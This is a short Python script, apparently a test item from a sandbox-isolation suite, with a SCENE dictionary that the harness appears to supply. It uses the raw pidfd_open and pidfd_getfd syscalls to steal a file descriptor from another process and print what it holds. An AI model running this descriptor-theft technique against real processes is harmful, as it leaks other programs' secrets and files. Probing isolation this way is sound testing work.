"""Takes a descriptor out of the caller with pidfd_getfd."""

# ruff: noqa
# class: secrets
# wins: leak
# proof: plain

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = libc.syscall(434, SCENE["holder"], 0)
taken = libc.syscall(438, handle, SCENE["descriptor"], 0)
print(handle, taken)
print(os.pread(taken, 4096, 0))
